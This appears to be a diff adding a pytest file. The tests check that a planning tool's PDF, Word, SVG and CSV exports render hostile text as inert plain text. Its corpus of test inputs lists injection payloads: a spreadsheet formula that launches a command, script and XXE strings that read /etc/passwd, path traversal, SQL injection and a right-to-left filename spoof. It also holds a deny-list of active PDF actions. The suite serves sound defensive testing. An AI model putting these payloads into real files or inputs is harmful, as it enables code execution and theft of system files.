@@ -1,0 +1,270 @@
+"""Formulas, markup and tricks with directions come out of every export as plain text."""
+
+import csv
+import io
+import re
+import unicodedata
+import zipfile
+from collections.abc import Iterator
+from datetime import date
+from functools import cache
+
+import orjson
+import pikepdf
+import pytest
+from docx.oxml.parser import parse_xml
+
+from path_planner.domain.text import clean
+from path_planner.domain.vision.choosing import Priority, VoteRound
+from path_planner.domain.vision.plan import Action, Outcome
+from path_planner.domain.vision.source import Drawing, Unheard
+from path_planner.domain.vision.theme import Cause, Disagreement, Side, Theme
+from path_planner.domain.vision.vision import AboutVision, Limits, Member, Vision
+from path_planner.domain.voice import Share
+from path_planner.exports.give_away import document_name
+from path_planner.exports.giving.spreadsheet import GUARD, guarded
+from path_planner.exports.vision_export import VisionExport, VisionOptions, vision_exports
+from tests.evidence.visions import a_source, a_vision, a_voice, placed
+from tests.exports.unpacked import parts_of
+
+CORPUS = (
+    '=HYPERLINK("http://example.org?x="&A1,"press")',
+    "+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)*cmd",
+    "\t=1+1",
+    "\uff1d1+1",
+    "<script>alert(1)</script>",
+    "<img src=x onerror=alert(1)>",
+    "</text><script xlink:href='http://example.org'/>",
+    "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>&y;",
+    "]]></w:t><w:instrText>AUTHOR</w:instrText>",
+    "&lt;b&gt; &amp; &#x41; %41 \\u0041",
+    "[press](javascript:alert(1)) **bold** # head `code` | a | b |",
+    "\\input{/etc/passwd} $x^2$ \\textbf{bold} 100%",
+    "{{7*7}} ${7*7} {0} {name} %s %(x)s",
+    "https://example.org/a?b=c#d javascript:alert(1) file:///etc/passwd",
+    "(Tj) ET Q endstream endobj >> /JS (app.alert(1))",
+    "abc\u202egnp.exe and \u2066inside\u2069 and \u200fmark",
+    "zero\u200bwidth\u200djoined\u2060here\ufeffand\u00adsoft",
+    "👩🏽‍🦽 👨‍👩‍👧‍👦 🏴󠁧󠁢󠁷󠁬󠁳󠁿 🇬🇧 ☎️ 1️⃣",
+    "مرحبا بالعالم ١٢٣ (abc) 12",
+    "میرا گھر — my home — میرا گھر",
+    "我的家在河边。我们喜欢它。",
+    "আমার বাড়ি ਮੇਰਾ ਘਰ மொழி ગુજરાતી",
+    "Ẑ̸̧̛͍a̷͜͝l̴̢͠g̵̨͘o̶͚͝",
+    "W" * 290,
+    "../../etc/passwd C:\\x CON.txt \\\\host\\share",
+    "'; DROP TABLE voices; -- \" ' `",
+    "null\x00bell\x07escape\x1b[31m\x85\u2028\u2029\ufffe\uffff",
+)
+TURNED = re.compile("[\u202a-\u202e\u2066-\u2069]")
+WHOLE = ("plan", "docx", "giveaway")
+ON = VisionOptions(on=date(2026, 11, 22))
+EXPORTS = vision_exports()
+_ACTS = {
+    "/JS", "/JavaScript", "/AA", "/Launch", "/URI", "/SubmitForm", "/GoToR",
+    "/EmbeddedFiles", "/EmbeddedFile", "/RichMedia", "/XFA", "/AcroForm",
+}  # fmt: skip
+_DRAWN = {
+    "svg", "g", "defs", "style", "title", "desc", "text", "tspan", "path", "rect", "circle",
+    "ellipse", "line", "polygon", "polyline", "image", "clipPath", "use", "marker", "pattern",
+    "linearGradient", "stop", "font-face", "symbol",
+}  # fmt: skip
+
+
+@cache
+def hostile() -> Vision:
+    """Return a vision in which every text is of the corpus."""
+    texts = [str(clean(text)) for text in CORPUS]
+    ids = [f"{number}" for number in range(len(texts))]
+    at = dict(zip(ids, texts, strict=True))
+    line = {one: " ".join(text.split()) for one, text in at.items()}
+    some = ids[:6]
+    return a_vision(
+        about=AboutVision(
+            title=line["6"], community=line["0"], summary=at["9"], vision=at["12"], how=at["16"]
+        ),
+        limits=Limits(promise=at["0"], budget=at["6"], can_change=at["17"]),
+        steering=[Member(id=f"k{one}", name=line[one], printed=True) for one in some],
+        sources=[
+            a_source(
+                f"s{one}",
+                place=line[one],
+                group=line[one],
+                people=9,
+                agreed={"share": True, "drawings": True},
+            )
+            for one in ids
+        ],
+        voices=[
+            a_voice(
+                f"q{one}",
+                f"s{one}",
+                text=at[one],
+                share=Share.NAMED,
+                named=line[one][:80],
+                language=line[one][:40],
+                alone=number % 3 == 0,
+            )
+            for number, one in enumerate(ids)
+        ],
+        drawings=[
+            Drawing(id=f"f{one}", source=f"s{one}", words=at[one], width=10, height=10)
+            for one in some
+        ],
+        unheard=[Unheard(id=f"u{one}", who=line[one], why=at[one]) for one in some],
+        themes=[
+            Theme(id=f"t{one}", name=line[one][:200], statement=at[one], picture=line[one][:40])
+            for one in ids
+        ],
+        placings=[placed(f"q{one}", f"t{one}") for one in ids],
+        causes=[Cause(id=f"c{one}", theme=f"t{one}", text=at[one]) for one in some],
+        disagreements=[
+            Disagreement(id="d1", about=at["7"], one=Side(words=at["8"]), other=Side(words=at["9"]))
+        ],
+        priorities=[
+            Priority(id=f"p{one}", title=line[one], themes=(f"t{one}",), why=at[one], chosen=True)
+            for one in some
+        ],
+        votes=[
+            VoteRound(
+                id="r1", question=line["0"], options=tuple(f"p{one}" for one in some), open=False
+            )
+        ],
+        actions=[
+            Action(id=f"a{one}", what=at[one], who=line[one], priorities=(f"p{one}",))
+            for one in some
+        ],
+        outcomes=[
+            Outcome(id=f"o{one}", statement=at[one], measure=at[one], priorities=(f"p{one}",))
+            for one in some
+        ],
+    )
+
+
+@cache
+def rendered(key: str) -> bytes:
+    """Return an export of it, once."""
+    export = next(one for one in EXPORTS if one.key == key)
+    if key != "giveaway":
+        return inside()[document_name(export)]
+    return export.render(hostile(), ON)
+
+
+@cache
+def inside() -> dict[str, bytes]:
+    """Return the files of the give-away; every other document is among them."""
+    with zipfile.ZipFile(io.BytesIO(rendered("giveaway"))) as archive:
+        return {name: archive.read(name) for name in archive.namelist()}
+
+
+def seen(text: str) -> str:
+    """Return what is seen of a text, without gaps."""
+    told = unicodedata.normalize("NFKC", text)
+    return "".join(
+        sign for sign in told if unicodedata.category(sign)[0] not in "CZ" and not sign.isspace()
+    )
+
+
+def written(key: str) -> str:
+    """Return what is seen in a document, from its words and not from its bytes."""
+    content = rendered(key)
+    if key == "giveaway":
+        return seen("".join(text for name, text in parts_of(inside()["vision.vision.json"])))
+    if key == "docx":
+        with zipfile.ZipFile(io.BytesIO(content)) as archive:
+            body = parse_xml(archive.read("word/document.xml"))
+        return seen("".join(one.text or "" for one in body.iter("{*}t")))
+    pages = (text for name, text in parts_of(content) if re.fullmatch(r"#\d+", name))
+    return seen("".join(pages))
+
+
+@pytest.mark.parametrize("text", CORPUS, ids=range(len(CORPUS)))
+def test_a_hostile_text_stands_in_the_documents_as_it_is(text: str) -> None:
+    """In the PDF as far as PDFium gives back what stands there: not from the right, nor emoji."""
+    shown = seen(str(clean(text)))
+    assert seen(orjson.dumps(str(clean(text))).decode())[1:-1] in written("giveaway")
+    assert shown in written("docx")
+    if all(unicodedata.bidirectional(sign) not in {"R", "AL", "AN"} for sign in shown):
+        plain = "".join(sign for sign in shown if unicodedata.category(sign)[0] in "LNP")
+        page = "".join(sign for sign in written("plan") if unicodedata.category(sign)[0] in "LNP")
+        assert _without_marks(plain) in _without_marks(page)
+
+
+def _without_marks(text: str) -> str:
+    """Leave out signs that stand on others: a page draws them, and their order is free."""
+    return "".join(one for one in text if one.isascii() and one.isalnum())
+
+
+def svgs() -> Iterator[tuple[str, bytes]]:
+    """Yield every drawing."""
+    return ((name, held) for name, held in inside().items() if name.endswith(".svg"))
+
+
+def test_drawings_hold_nothing_that_acts() -> None:
+    names = [name for name, _ in svgs()]
+    assert "documents/poster.svg" in names
+    for name, held in svgs():
+        assert b"<!DOCTYPE" not in held, name
+        assert b"<!ENTITY" not in held, name
+        for element in parse_xml(held).iter():
+            assert element.tag.rpartition("}")[2] in _DRAWN, (name, element.tag)
+            for key, value in element.attrib.items():
+                assert not key.rpartition("}")[2].lower().startswith("on"), (name, key)
+                if key.rpartition("}")[2] == "href":
+                    assert value.startswith(("#", "data:image/")), name
+
+
+def test_pdfs_hold_nothing_that_acts() -> None:
+    found = [(name, held) for name, held in inside().items() if name.endswith(".pdf")]
+    assert len(found) >= 4
+    for name, held in found:
+        with pikepdf.open(io.BytesIO(held)) as opened:
+            for one in opened.objects:
+                assert not _ACTS & {*_names(one)}, name
+            # Where a reader begins is a place, never something that is done.
+            assert isinstance(opened.Root.get("/OpenAction", pikepdf.Array()), pikepdf.Array)
+
+
+def _names(found: object) -> Iterator[str]:
+    if isinstance(found, pikepdf.Dictionary | pikepdf.Stream):
+        yield from found
+        for key in ("/S", "/Type", "/Subtype"):
+            yield str(found.get(key, ""))
+
+
+def test_documents_to_edit_hold_nothing_that_acts() -> None:
+    with zipfile.ZipFile(io.BytesIO(rendered("docx"))) as archive:
+        parts = {name: archive.read(name) for name in archive.namelist()}
+    for name, part in parts.items():
+        if name.endswith((".xml", ".rels")):
+            parse_xml(part)
+            assert b'TargetMode="External"' not in part, name
+            assert b"<!DOCTYPE" not in part, name
+    fields = [one.text for one in parse_xml(parts["word/document.xml"]).iter("{*}instrText")]
+    assert [one.split()[0] for one in fields] == ["TOC"]
+
+
+def test_no_cell_of_a_table_is_a_formula() -> None:
+    cells = 0
+    for name, held in inside().items():
+        if name.endswith(".csv"):
+            for row in csv.reader(io.StringIO(held.decode("utf-8-sig"), newline="")):
+                for cell in row:
+                    cells += cell.startswith(GUARD)
+                    plain = guarded(cell) == cell or re.fullmatch(r"-?\d+(\.\d+)?", cell)
+                    assert cell.startswith(GUARD) or plain, (name, cell)
+    assert cells > 50
+
+
+@pytest.mark.parametrize("export", EXPORTS, ids=lambda one: one.key)
+def test_nothing_turns_a_line_round_in_what_is_read_as_text(export: VisionExport) -> None:
+    for name, text in parts_of(rendered(export.key)):
+        if name.rpartition(".")[2].partition("#")[0] in {"xml", "svg", "csv", "json", "txt"}:
+            assert not TURNED.search(text), name
+
+
+def test_files_are_named_by_us_alone() -> None:
+    for name in inside():
+        assert re.fullmatch(r"([a-z]+/)?[A-Za-z0-9.-]+\.[a-z]+", name), name
